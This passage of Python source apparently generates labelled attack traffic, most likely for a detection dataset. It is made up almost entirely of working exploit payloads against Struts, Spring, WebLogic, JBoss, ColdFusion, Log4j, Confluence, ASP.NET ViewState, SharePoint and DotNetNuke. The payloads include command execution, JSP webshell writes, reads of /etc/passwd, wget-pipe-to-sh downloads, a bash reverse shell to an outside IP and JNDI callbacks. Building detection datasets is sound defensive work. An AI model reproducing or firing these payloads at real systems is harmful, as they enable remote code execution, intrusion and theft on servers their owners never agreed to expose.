        return b64(gzip.compress(raw, mtime=0))
    if how == "b64url":
        return base64.urlsafe_b64encode(raw).decode().rstrip("=")
    if how == "hex":
        return binascii.hexlify(raw).decode()
    raise ValueError(how)


# ---------------------------------------------------------------------------
# ATTACKS: java (JSF ViewState, Struts OGNL, Spring4Shell, app servers, ...)
# ---------------------------------------------------------------------------

OGNL_045 = ("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)."
            "(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])."
            "(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))."
            "(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear())."
            "(#context.setMemberAccess(#dm)))).(#cmd='{cmd}').(#iswin=(@java.lang.System@getProperty('os.name').toLowerCase().contains('win')))."
            "(#cmds=(#iswin?{'cmd.exe','/c',#cmd}:{'/bin/bash','-c',#cmd})).(#p=new java.lang.ProcessBuilder(#cmds))."
            "(#p.redirectErrorStream(true)).(#process=#p.start()).(#ros=(@org.apache.struts2.ServletActionContext@getResponse()."
            "getOutputStream())).(@org.apache.commons.io.IOUtils@copy(#process.getInputStream(),#ros)).(#ros.flush())}")


def gen_attack_java():
    r = rng_for("attack_java")
    cat = "java"
    # --- JSF ViewState deserialization (unencrypted client state) ---
    jsf = [("CommonsCollections5", "b64", "form"), ("CommonsCollections6", "gzip", "ajax"),
           ("Jdk7u21", "b64url", "form"), ("CommonsBeanutils1", "gzip", "form"),
           ("URLDNS", "b64", "get"), ("Spring1", "b64", "ajax"), ("ROME", "gzip", "get")]
    for chain, how, shape in jsf:
        cmd = "jsfprobe%d.x7k2p.oastify.com" % r.randint(100, 999) if chain == "URLDNS" else r.choice(NIX_CMDS + WIN_CMDS[:2])
        vs = enc_java(java_gadget(chain, cmd), how)
        host = r.choice(INTRA_HOSTS)
        app = r.choice(["/hrportal", "/claims", "/portal", "/procurement"])
        if shape == "get":
            add(cat, "jsf_viewstate", "GET", "%s/faces/index.xhtml?javax.faces.ViewState=%s" % (app, quote(vs, safe="")),
                attacker(r, host))
        elif shape == "ajax":
            body = form([("javax.faces.partial.ajax", "true"), ("javax.faces.source", "form:btnSearch"),
                         ("javax.faces.partial.execute", "@all"), ("javax.faces.partial.render", "form:results"),
                         ("form", "form"), ("form:lastName", "smith"), ("javax.faces.ViewState", vs)])
            add(cat, "jsf_viewstate", "POST", app + "/pages/search.xhtml",
                attacker(r, host, ctype="application/x-www-form-urlencoded; charset=UTF-8", extra=[["Faces-Request", "partial/ajax"]]), body)
        else:
            body = form([("j_idt12", "j_idt12"), ("j_idt12:username", "admin"), ("j_idt12:password", "admin"),
                         ("j_idt12:j_idt19", "Login"), ("javax.faces.ViewState", vs)])
            add(cat, "jsf_viewstate", "POST", app + "/login.jsf",
                attacker(r, host, ctype="application/x-www-form-urlencoded"), body)

    # --- Struts 2 OGNL ---
    host = "apps.northwind.local"
    for cmd in ["id", "whoami"]:
        add(cat, "struts_ognl", "POST" if cmd == "id" else "GET", "/struts2-showcase/%s" % ("index.action" if cmd == "id" else "orders/list.action"),
            attacker(r, host, ctype=OGNL_045.replace("{cmd}", cmd)), "" if cmd == "id" else None)
    # S2-046: OGNL in the multipart filename, with a NUL byte
    bd = webkit_boundary(r)
    fname = "%{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm).(#cmd='cat /etc/passwd').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.start())}\x00b"
    body = ("--%s\r\nContent-Disposition: form-data; name=\"upload\"; filename=\"%s\"\r\nContent-Type: text/plain\r\n\r\nx\r\n--%s--\r\n" % (bd, fname, bd)).encode("latin-1")
    add_raw(cat, "struts_ognl", "POST", "/hr/doUpload.action", attacker(r, host, ctype="multipart/form-data; boundary=" + bd), body)
    # S2-057: OGNL in the namespace (path)
    add(cat, "struts_ognl", "GET", "/hr/%24%7B%28%23_memberAccess%5B%22allowStaticMethodAccess%22%5D%3Dtrue%2C%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%27id%27%29.getInputStream%28%29%2C%23b%3Dnew%20java.io.InputStreamReader%28%23a%29%2C%23c%3Dnew%20java.io.BufferedReader%28%23b%29%2C%23d%3Dnew%20char%5B51020%5D%2C%23c.read%28%23d%29%2C%23sbtest%3D%40org.apache.struts2.ServletActionContext%40getResponse%28%29.getWriter%28%29%2C%23sbtest.println%28%23d%29%2C%23sbtest.close%28%29%29%7D/actionChain1.action",
        attacker(r, host))
    add(cat, "struts_ognl", "GET", "/struts3/${(111+111)}/help.action", attacker(r, host))
    # S2-016: redirect: prefix
    add(cat, "struts_ognl", "GET", "/login.action?redirect:%24%7B%23a%3D%28new%20java.lang.ProcessBuilder%28new%20java.lang.String%5B%5D%7B%27cat%27%2C%27%2Fetc%2Fpasswd%27%7D%29%29.start%28%29%2C%23b%3D%23a.getInputStream%28%29%2C%23c%3Dnew%20java.io.InputStreamReader%28%23b%29%2C%23d%3Dnew%20java.io.BufferedReader%28%23c%29%2C%23e%3Dnew%20char%5B50000%5D%2C%23d.read%28%23e%29%2C%23matt%3D%23context.get%28%27com.opensymphony.xwork2.dispatcher.HttpServletResponse%27%29%2C%23matt.getWriter%28%29.println%28%23e%29%2C%23matt.getWriter%28%29.flush%28%29%2C%23matt.getWriter%28%29.close%28%29%7D",
        attacker(r, host))
    # S2-032: method: prefix with DMI
    add(cat, "struts_ognl", "GET", "/hr/employee/list.action?method:%23_memberAccess%3d@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,%23res%3d%40org.apache.struts2.ServletActionContext%40getResponse(),%23res.setCharacterEncoding(%23parameters.encoding%5B0%5D),%23w%3d%23res.getWriter(),%23s%3dnew+java.util.Scanner(@java.lang.Runtime@getRuntime().exec(%23parameters.cmd%5B0%5D).getInputStream()).useDelimiter(%23parameters.pp%5B0%5D),%23str%3d%23s.hasNext()%3f%23s.next()%3a%23parameters.ppp%5B0%5D,%23w.print(%23str),%23w.close(),1?%23xx:%23request.toString&pp=%5C%5CA&ppp=%20&encoding=UTF-8&cmd=id",
        attacker(r, host))
    # S2-061 / S2-059 forced OGNL evaluation in a tag attribute
    add(cat, "struts_ognl", "POST", "/hr/employee/view.action",
        attacker(r, host, ctype="application/x-www-form-urlencoded"),
        "id=" + qp("%{(#instancemanager=#application[\"org.apache.tomcat.InstanceManager\"]).(#stack=#attr[\"com.opensymphony.xwork2.util.ValueStack.ValueStack\"]).(#bean=#instancemanager.newInstance(\"org.apache.commons.collections.BeanMap\")).(#bean.setBean(#stack)).(#context=#bean.get(\"context\")).(#bean.setBean(#context)).(#macc=#bean.get(\"memberAccess\")).(#bean.setBean(#macc)).(#emptyset=#instancemanager.newInstance(\"java.util.HashSet\")).(#bean.put(\"excludedClasses\",#emptyset)).(#bean.put(\"excludedPackageNames\",#emptyset)).(#arglist=#instancemanager.newInstance(\"java.util.ArrayList\")).(#arglist.add(\"id\")).(#execute=#instancemanager.newInstance(\"freemarker.template.utility.Execute\")).(#execute.exec(#arglist))}"))
    # S2-001 style: OGNL in a plain form field
    add(cat, "struts_ognl", "POST", "/login.action", attacker(r, host, ctype="application/x-www-form-urlencoded"),
        "username=" + qp("%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{\"whoami\"})).redirectErrorStream(true).start(),#b=#a.getInputStream(),#c=new java.io.InputStreamReader(#b),#d=new java.io.BufferedReader(#c),#e=new char[50000],#d.read(#e),#f=#context.get(\"com.opensymphony.xwork2.dispatcher.HttpServletResponse\"),#f.getWriter().println(new java.lang.String(#e)),#f.getWriter().flush(),#f.getWriter().close()}") + "&password=x")
    # S2-052: REST plugin XStream
    xs = ('<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class="com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data">'
          '<dataHandler><dataSource class="com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource"><is class="javax.crypto.CipherInputStream">'
          '<cipher class="javax.crypto.NullCipher"><initialized>false</initialized><opmode>0</opmode><serviceIterator class="javax.imageio.spi.FilterIterator">'
          '<iter class="javax.imageio.spi.FilterIterator"><iter class="java.util.Collections$EmptyIterator"/><next class="java.lang.ProcessBuilder">'
          '<command><string>/bin/sh</string><string>-c</string><string>wget -qO- http://203.0.113.47/x.sh|sh</string></command><redirectErrorStream>false</redirectErrorStream></next></iter>'
          '<filter class="javax.imageio.ImageIO$ContainsFilter"><method><class>java.lang.ProcessBuilder</class><name>start</name><parameter-types/></method>'
          '<name>foo</name></filter><next class="string">foo</next></serviceIterator><lock/></cipher><input class="java.lang.ProcessBuilder$NullInputStream"/>'
          '<ibuffer></ibuffer><done>false</done><ostart>0</ostart><ofinish>0</ofinish><closed>false</closed></is><consumed>false</consumed></dataSource>'
          '<transferFlavors/></dataHandler><dataLen>0</dataLen></value></jdk.nashorn.internal.objects.NativeString>'
          '<jdk.nashorn.internal.objects.NativeString reference="../jdk.nashorn.internal.objects.NativeString"/></entry></map>')
    add(cat, "struts_ognl", "POST", "/struts2-rest-showcase/orders/3", attacker(r, host, ctype="application/xml"), xs)
    # Struts 1 ClassLoader manipulation (CVE-2014-0114)
    add(cat, "struts_ognl", "GET", "/orders/search.do?class.classLoader.resources.dirContext.docBase=%5C%5C198.51.100.23%5Cshare&method=list",
        attacker(r, host))

    # --- Spring4Shell ---
    s4s = [("class.module.classLoader.resources.context.parent.pipeline.first.pattern",
            "%{c2}i if(\"j\".equals(request.getParameter(\"pwd\"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter(\"cmd\")).getInputStream(); int a = -1; byte[] b = new byte[2048]; while((a=in.read(b))!=-1){ out.println(new String(b)); } } %{suffix}i"),
           ("class.module.classLoader.resources.context.parent.pipeline.first.suffix", ".jsp"),
           ("class.module.classLoader.resources.context.parent.pipeline.first.directory", "webapps/ROOT"),
           ("class.module.classLoader.resources.context.parent.pipeline.first.prefix", "tomcatwar"),
           ("class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat", "")]
    add(cat, "spring4shell", "POST", "/hr/employee/save",
        attacker(r, "apps.northwind.local", ctype="application/x-www-form-urlencoded",
                 extra=[["suffix", "%>//"], ["c1", "Runtime"], ["c2", "<%"], ["DNT", "1"]]), form(s4s))
    add(cat, "spring4shell", "GET", "/owners/new?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bprefix%7Di%20java.io.InputStream%20in%20%3D%20%25%7Bc%7Di.getRuntime().exec(request.getParameter(%22cmd%22)).getInputStream()%3B%20%25%7Bsuffix%7Di&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps%2FROOT&class.module.classLoader.resources.context.parent.pipeline.first.prefix=shell&class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat=",
        attacker(r, "ops.adventure-works.local", extra=[["prefix", "<%"], ["suffix", "%>//"], ["c", "Runtime"]]))
    add(cat, "spring4shell", "POST", "/catalog/cars",
        attacker(r, "apps.northwind.local", ctype="application/x-www-form-urlencoded"),
        "class%5B%27module%27%5D.classLoader.resources.context.parent.pipeline.first.pattern=test&class%5B%27module%27%5D.classLoader.resources.context.parent.pipeline.first.fileDateFormat=_1")

    # --- application servers ---
    ws = enc_java(java_gadget("CommonsCollections1", "cmd.exe /c whoami > C:\\IBM\\WebSphere\\AppServer\\profiles\\AppSrv01\\installedApps\\x.txt"), "b64")
    body = ('<?xml version="1.0" encoding="UTF-8"?><SOAP-ENV:Envelope xmlns:SOAP-ENV="http://schemas.xmlsoap.org/soap/envelope/" '
            'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:xsd="http://www.w3.org/2001/XMLSchema">'
            '<SOAP-ENV:Header ns0:JMXConnectorContext="%s" xmlns:ns0="admin" ns0:WASRemoteRuntimeVersion="8.5.5.7" ns0:JMXMessageVersion="1.2.0" ns0:JMXVersion="1.2.0">'
            '</SOAP-ENV:Header><SOAP-ENV:Body><ns1:getAttribute xmlns:ns1="urn:AdminService" SOAP-ENV:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/">'
            '<objectname xsi:type="ns1:javax.management.ObjectName">rO0ABXNyABtqYXZheC5tYW5hZ2VtZW50Lk9iamVjdE5hbWUPA6cb620VzwMAAHhwdACxV2ViU3BoZXJlOm5hbWU9Q29uZmlnU2VydmljZSxwcm9jZXNzPXNlcnZlcjEscGxhdGZvcm09cHJveHksbm9kZT1MYXAzOTAxM05vZGUwMSx2ZXJzaW9uPTguNS41LjcsdHlwZT1Db25maWdTZXJ2aWNlLG1iZWFuSWRlbnRpZmllcj1Db25maWdTZXJ2aWNlLGNlbGw9TGFwMzkwMTNOb2RlMDFDZWxsLHNwZWM9MS4weA==</objectname>'
            '<attribute xsi:type="xsd:string">ringBufferSize</attribute></ns1:getAttribute></SOAP-ENV:Body></SOAP-ENV:Envelope>') % ws
    add(cat, "appserver_deser", "POST", "/", [["Host", "was01.corp.local:8880"], ["User-Agent", "Mozilla/5.0"], ["Content-Type", "text/xml; charset=utf-8"], ["SOAPAction", "urn:AdminService"]], body)
    add_raw(cat, "appserver_deser", "POST", "/invoker/JMXInvokerServlet",
            [["Host", "jboss.corp.local:8080"], ["User-Agent", "Java/1.8.0_151"], ["Content-Type", "application/x-java-serialized-object; class=org.jboss.invocation.MarshalledValue"], ["Accept", "text/html, image/gif, image/jpeg, *; q=.2, */*; q=.2"]],
            java_gadget("CommonsCollections5", "wget -qO- http://203.0.113.47/j.sh|sh"))
    add(cat, "appserver_deser", "POST", "/wls-wsat/CoordinatorPortType",
        attacker(r, "weblogic.corp.local:7001", ctype="text/xml"),
        '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/">'
        '<java version="1.8.0_151" class="java.beans.XMLDecoder"><void class="java.lang.ProcessBuilder"><array class="java.lang.String" length="3">'
        '<void index="0"><string>/bin/bash</string></void><void index="1"><string>-c</string></void><void index="2"><string>bash -i &gt;&amp; /dev/tcp/185.220.101.34/4444 0&gt;&amp;1</string></void>'
        '</array><void method="start"/></void></java></work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>')
    add(cat, "appserver_deser", "GET", "/console/css/%252e%252e%252fconsole.portal?_nfpb=true&_pageLabel=&handle=com.tangosol.coherence.mvel2.sh.ShellSession(%22java.lang.Runtime.getRuntime().exec(%27touch%20/tmp/x%27);%22)",
        attacker(r, "weblogic.corp.local:7001"))
    add(cat, "appserver_deser", "POST", "/api/jsonws/expandocolumn/update-column",
        attacker(r, "liferay.corp.local", ctype="application/x-www-form-urlencoded"),
        form([("columnId", "1"), ("name", "2"), ("type", "3"),
              ("defaultData:com.mchange.v2.c3p0.WrapperConnectionPoolDataSource",
               '{"userOverridesAsString":"HexAsciiSerializedMap:' + enc_java(java_gadget("CommonsBeanutils1", "id"), "hex").upper() + ';"}')]))
    # --- ColdFusion ---
    wddx = ("<wddxPacket version='1.0'><header/><data><struct type='xcom.sun.rowset.JdbcRowSetImplx'>"
            "<var name='dataSourceName'><string>ldap://203.0.113.47:1389/Exploit</string></var>"
            "<var name='autoCommit'><boolean value='true'/></var></struct></data></wddxPacket>")
    add(cat, "coldfusion_deser", "POST", "/CFIDE/adminapi/accessmanager.cfc?method=foo&_cfclient=true",
        attacker(r, "intranet.corp.local", ctype="application/x-www-form-urlencoded"), "argumentCollection=" + qp(wddx))
    amf = (b"\x00\x03\x00\x00\x00\x01\x00\x00\x00\x00\xff\xff\xff\xff\x11\x0a\x07\x33sun.rmi.server.UnicastRef" +
           struct.pack(">H", 13) + b"203.0.113.47" + b"\x00\x00\x04\x4b" + rbytes(r, 16))
    add_raw(cat, "coldfusion_deser", "POST", "/flex2gateway/amf",
            [["Host", "cf.corp.local"], ["User-Agent", "Mozilla/5.0"], ["Content-Type", "application/x-amf"]], amf)
    # --- Log4Shell through legacy Java front ends ---
    add(cat, "log4shell", "GET", "/hrportal/login.jsf",
        attacker(r, "apps.northwind.local", ua="${jndi:ldap://203.0.113.47:1389/Basic/Command/Base64/aWQ=}"))
    add(cat, "log4shell", "POST", "/psp/ps/?cmd=login&languageCd=ENG",
        attacker(r, "hcm.corp.local:8443", ctype="application/x-www-form-urlencoded",
                 extra=[["X-Forwarded-For", "${${lower:j}${::-n}${::-d}${upper:i}:${lower:l}${::-d}${::-a}${::-p}://a9f3.interact.sh/ps}"]]),
        "timezoneOffset=0&userid=PS&pwd=x")
    add(cat, "log4shell", "POST", "/irj/portal", attacker(r, "sapportal.corp.local:50001", ctype="application/x-www-form-urlencoded"),
        form([("login_submit", "on"), ("j_username", "${jndi:${lower:r}mi://198.51.100.23:1099/obj}"), ("j_password", "x")]))
    # --- Confluence (intranet wiki) OGNL in the URI ---
    add(cat, "confluence_ognl", "GET", "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29.%28%40com.opensymphony.webwork.ServletActionContext%40getResponse%28%29.setHeader%28%22X-Cmd-Response%22%2C%23a%29%29%7D/",
        attacker(r, "wiki.corp.local"))
    # --- PrimeFaces 5.x dynamic content EL (CVE-2017-1000486) ---
    add(cat, "primefaces_el", "POST", "/claims/javax.faces.resource/dynamiccontent.properties.xhtml",
        attacker(r, "apps.northwind.local", ctype="application/x-www-form-urlencoded", extra=[["cmd", "whoami"]]),
        "pfdrt=sc&ln=primefaces&pfdrid=" + qp(b64(rbytes(r, 432))))
    # --- Spring Cloud Function SpEL header on an old Spring Boot side service ---
    add(cat, "spring_spel", "POST", "/functionRouter",
        attacker(r, "ops.adventure-works.local:8080", ctype="text/plain",
                 extra=[["spring.cloud.function.routing-expression", 'T(java.lang.Runtime).getRuntime().exec("curl http://198.51.100.23/s -o /tmp/s")']]), "x")


# ---------------------------------------------------------------------------
# ATTACKS: generic (.NET deserialization: ViewState, SharePoint, Telerik, DNN)
# ---------------------------------------------------------------------------

EXPANDED_ODP = ('<ExpandedWrapperOfXamlReaderObjectDataProvider xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
                'xmlns:xsd="http://www.w3.org/2001/XMLSchema"><ExpandedElement/><ProjectedProperty0><MethodName>Parse</MethodName>'
                '<MethodParameters><anyType xsi:type="xsd:string">&lt;ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" '
                'xmlns:x="http://schemas.microsoft.com/winfx/2006/xaml" xmlns:System="clr-namespace:System;assembly=mscorlib" '
                'xmlns:Diag="clr-namespace:System.Diagnostics;assembly=system"&gt;&lt;ObjectDataProvider x:Key="LaunchCmd" '
                'ObjectType="{x:Type Diag:Process}" MethodName="Start"&gt;&lt;ObjectDataProvider.MethodParameters&gt;'
                '&lt;System:String&gt;cmd&lt;/System:String&gt;&lt;System:String&gt;/c %s&lt;/System:String&gt;'
                '&lt;/ObjectDataProvider.MethodParameters&gt;&lt;/ObjectDataProvider&gt;&lt;/ResourceDictionary&gt;</anyType>'
                '</MethodParameters><ObjectInstance xsi:type="XamlReader"></ObjectInstance></ProjectedProperty0></ExpandedWrapperOfXamlReaderObjectDataProvider>')
EW_TYPE = ("System.Data.Services.Internal.ExpandedWrapper`2[[System.Windows.Markup.XamlReader, PresentationFramework, Version=4.0.0.0, "
           "Culture=neutral, PublicKeyToken=31bf3856ad364e35],[System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0, "
           "Culture=neutral, PublicKeyToken=31bf3856ad364e35]], System.Data.Services, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089")


def dataset_xml(cmd):
    return ('<DataSet><xs:schema xmlns="" xmlns:xs="http://www.w3.org/2001/XMLSchema" xmlns:msdata="urn:schemas-microsoft-com:xml-msdata" id="somedataset">'
            '<xs:element name="somedataset" msdata:IsDataSet="true" msdata:UseCurrentLocale="true"><xs:complexType><xs:choice minOccurs="0" maxOccurs="unbounded">'
            '<xs:element name="Exp_x0020_Table"><xs:complexType><xs:sequence><xs:element name="pwn" msdata:DataType="%s" type="xs:anyType" minOccurs="0"/>'
            '</xs:sequence></xs:complexType></xs:element></xs:choice></xs:complexType></xs:element></xs:schema>'
            '<diffgr:diffgram xmlns:msdata="urn:schemas-microsoft-com:xml-msdata" xmlns:diffgr="urn:schemas-microsoft-com:xml-diffgram-v1">'
            '<somedataset><Exp_x0020_Table diffgr:id="Exp Table1" msdata:rowOrder="0" diffgr:hasChanges="inserted"><pwn xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:xsd="http://www.w3.org/2001/XMLSchema">'
            '%s</pwn></Exp_x0020_Table></somedataset></diffgr:diffgram></DataSet>') % (xesc(EW_TYPE), EXPANDED_ODP % xesc(cmd))


def gen_attack_generic():
    r = rng_for("attack_generic")
    cat = "generic"
    pages = ["/Default.aspx", "/HR/EmployeeList.aspx", "/Login.aspx", "/Purchasing/OrderSearch.aspx", "/Portal/Home.aspx"]
    # __VIEWSTATE carrying ysoserial.net gadgets (known or leaked machineKey)
    for j, (g, shape) in enumerate([("TypeConfuseDelegate", "post"), ("TextFormattingRunProperties", "post"),
                                    ("WindowsIdentity", "post"), ("ClaimsPrincipal", "async"),
                                    ("PSObject", "post"), ("TextFormattingRunProperties", "multipart"),
                                    ("RolePrincipal", "post")]):
        cmd = WIN_CMDS[j % len(WIN_CMDS)]
        vs = osf_viewstate(g, cmd, r)
        host = r.choice(INTRA_HOSTS)
        page = pages[j % len(pages)]
        if shape == "post":
            body = form([("__EVENTTARGET", ""), ("__EVENTARGUMENT", ""), ("__VIEWSTATE", vs), ("__VIEWSTATEGENERATOR", vsgen(r))])
            add(cat, "viewstate_deser", "POST", page, attacker(r, host, ctype="application/x-www-form-urlencoded", cookie=aspnet_session(r)), body)
        elif shape == "async":
            body = form([("ctl00$ScriptManager1", "ctl00$MainContent$UpdatePanel1|ctl00$MainContent$btnRefresh"),
                         ("__EVENTTARGET", ""), ("__EVENTARGUMENT", ""), ("__VIEWSTATE", vs), ("__VIEWSTATEGENERATOR", vsgen(r)),
                         ("__ASYNCPOST", "true"), ("ctl00$MainContent$btnRefresh", "Refresh")])
            add(cat, "viewstate_deser", "POST", page, attacker(r, host, ctype="application/x-www-form-urlencoded; charset=utf-8",
                                                              extra=[["X-MicrosoftAjax", "Delta=true"]]), body)
        else:
            bd = ie_boundary(r)
            mp = multipart([("__VIEWSTATE", vs, None, None), ("__VIEWSTATEGENERATOR", vsgen(r), None, None),
                            ("ctl00$MainContent$fuUpload", b"hello", "a.txt", "text/plain"),
                            ("ctl00$MainContent$btnUpload", "Upload", None, None)], bd)
            add_raw(cat, "viewstate_deser", "POST", "/Documents/Upload.aspx", attacker(r, host, ctype="multipart/form-data; boundary=" + bd), mp)
    # CVE-2020-0688: Exchange ECP with the static validation key, ViewState in the query string
    for g in ["TextFormattingRunProperties", "TypeConfuseDelegate"]:
        vs = osf_viewstate(g, r.choice(WIN_CMDS), r)
        add(cat, "exchange_viewstate", "GET", "/ecp/default.aspx?__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=" + quote(vs, safe=""),
            attacker(r, "mail.corp.local", ua=IE11[1], accept=ACCEPT_IE,
                     cookie="ASP.NET_SessionId=%s; msExchEcpCanary=%s; msExchLogonMailbox=S-1-5-21-%d-%d-%d-1104" % (
                         guid(r), ralnum(r, 76, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-") + ".",
                         r.randint(10 ** 9, 4 * 10 ** 9), r.randint(10 ** 9, 4 * 10 ** 9), r.randint(10 ** 9, 4 * 10 ** 9))))
    # SharePoint ToolShell (CVE-2025-53770 chain): ToolPane.aspx with SignOut referer and ExcelDataSet
    for cmd in ["powershell -EncodedCommand JABiAGEAcwBlADYANAA9AFsAUwB5AHMAdABlAG0ALgBDAG8AbgB2AGUAcgB0AF0AOgA6AFQAbwBCAGEAcwBlADYANABTAHQAcgBpAG4AZwA=",
                "cmd /c echo %MachineKey% > C:\\PROGRA~1\\COMMON~1\\MICROS~1\\WEBSER~1\\16\\TEMPLATE\\LAYOUTS\\spinstall0.aspx"]:
        cdt = b64(gzip.compress(dataset_xml(cmd).encode("utf-8"), mtime=0))
        dwp = ('<%%@ Register Tagprefix="ScorecardClient" Namespace="Microsoft.PerformancePoint.Scorecards" Assembly="Microsoft.PerformancePoint.Scorecards.Client, '
               'Version=16.0.0.0, Culture=neutral, PublicKeyToken=71e9bce111e9429c" %%><%%@ Register Tagprefix="asp" Namespace="System.Web.UI" '
               'Assembly="System.Web.Extensions, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35" %%>'
               '<asp:UpdateProgress ID="UpdateProgress1" DisplayAfter="10" runat="server" AssociatedUpdatePanelID="upTest"><ProgressTemplate>'
               '<div><ScorecardClient:ExcelDataSet CompressedDataTable="%s" DataTable-CaseSensitive="false" runat="server"></ScorecardClient:ExcelDataSet></div>'
               '</ProgressTemplate></asp:UpdateProgress>') % cdt
        add(cat, "sharepoint_deser", "POST", "/_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx",
            attacker(r, "sp2013.corp.local", ua="Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:120.0) Gecko/20100101 Firefox/120.0",
                     ctype="application/x-www-form-urlencoded", extra=[["Referer", "/_layouts/SignOut.aspx"]]),
            form([("MSOTlPn_Uri", "http://sp2013.corp.local/_controltemplates/15/AclEditor.ascx"), ("MSOTlPn_DWP", dwp)]))
    # CVE-2019-0604: Picker.aspx with an XmlSerializer payload in hiddenSpanData
    xml = ('<ResultTable><ExpandedWrapperOfXamlReaderObjectDataProvider>' + (EXPANDED_ODP % "calc") + '</ExpandedWrapperOfXamlReaderObjectDataProvider></ResultTable>')
    add(cat, "sharepoint_deser", "POST", "/_layouts/15/Picker.aspx?PickerDialogType=Microsoft.SharePoint.WebControls.ItemPickerDialog%2C+Microsoft.SharePoint%2C+Version%3D15.0.0.0%2C+Culture%3Dneutral%2C+PublicKeyToken%3D71e9bce111e9429c",
        attacker(r, "sharepoint.fabrikam.internal", ctype="application/x-www-form-urlencoded", cookie=fedauth(r)),
        form([("__VIEWSTATE", ""), ("ctl00$PlaceHolderDialogBodySection$ctl05$hiddenSpanData", "__bp" + binascii.hexlify(xml.encode()).decode()),
              ("ctl00$PlaceHolderDialogBodySection$ctl05$hiddenEntityKey", "x"), ("ctl00$PlaceHolderDialogBodySection$ctl05$hiddenEntityDisplayText", "x")]))
    # CVE-2020-1147: DataSet XML to a SharePoint quick-links form
    add(cat, "sharepoint_deser", "POST", "/_layouts/15/quicklinks.aspx?Mode=Suggestion",
        attacker(r, "sp2013.corp.local", ctype="application/x-www-form-urlencoded", cookie=fedauth(r)),
        form([("__viewstate", ""), ("__SUGGESTIONSCACHE__", dataset_xml("ping -n 1 x7k2p.oastify.com"))]))
    # Json.NET TypeNameHandling in an ASMX/WCF JSON service
    add(cat, "json_net_type", "POST", "/Services/Settings.svc/json/SaveUserSettings",
        attacker(r, "apps.northwind.local", ctype="application/json; charset=utf-8"),
        json.dumps({"settings": {"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35",
                                 "MethodName": "Start", "MethodParameters": {"$type": "System.Collections.ArrayList, mscorlib, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089",
                                                                             "$values": ["cmd", "/c " + WIN_CMDS[1]]},
                                 "ObjectInstance": {"$type": "System.Diagnostics.Process, System, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089"}}}))
    add(cat, "json_net_type", "POST", "/Orders/Edit.aspx/SaveOrderLines",
        attacker(r, "apps.northwind.local", ctype="application/json; charset=utf-8"),
        '{"orderId":1,"lines":{"__type":"System.Windows.Data.ObjectDataProvider:#System.Windows.Data","MethodName":"Start","ObjectInstance":{"__type":"System.Diagnostics.Process:#System.Diagnostics","StartInfo":{"__type":"System.Diagnostics.ProcessStartInfo:#System.Diagnostics","FileName":"cmd","Arguments":"/c whoami > c:\\\\inetpub\\\\wwwroot\\\\o.txt"}}}}')
    # DotNetNuke CVE-2017-9822 DNNPersonalization cookie
    dnn = ('<profile><item key="name1:key1" type="System.Data.Services.Internal.ExpandedWrapper`2[[DotNetNuke.Common.Utilities.FileSystemUtils],'
           '[System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35]], '
           'System.Data.Services, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089"><ExpandedWrapperOfFileSystemUtilsObjectDataProvider '
           'xmlns:xsd="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><ExpandedElement/><ProjectedProperty0>'
           '<MethodName>PullFile</MethodName><MethodParameters><anyType xsi:type="xsd:string">http://198.51.100.23/cmd.aspx</anyType>'
           '<anyType xsi:type="xsd:string">C:\\inetpub\\wwwroot\\dotnetnuke\\cmd.aspx</anyType></MethodParameters><ObjectInstance xsi:type="FileSystemUtils"></ObjectInstance>'
           '</ProjectedProperty0></ExpandedWrapperOfFileSystemUtilsObjectDataProvider></item></profile>')
    add(cat, "dnn_cookie", "GET", "/__", attacker(r, "www.example.org", cookie="DNNPersonalization=" + dnn))
